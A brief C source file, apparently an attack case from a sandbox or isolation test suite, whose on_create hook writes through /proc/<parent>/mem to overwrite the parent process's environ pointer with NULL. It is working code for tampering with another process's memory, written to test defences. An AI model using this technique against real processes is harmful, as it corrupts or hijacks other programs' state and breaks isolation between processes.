// SPDX-License-Identifier: BSL-1.0
/* Overwrites a variable of its parent through /proc: `environ`, which is at the same address in both. */
#include <fcntl.h>
#include <unistd.h>

#include "attack.h"

extern char** environ;

int32_t on_create(void) {
    char path[64];
    void* nothing = NULL;
    snprintf(path, sizeof path, "/proc/%d/mem", getppid());
    int memory = open(path, O_RDWR);
    if (memory < 0) return 0;
    if (pwrite(memory, &nothing, sizeof nothing, (off_t)(uintptr_t)&environ) < 0) abort();
    close(memory);
    return 0;
}
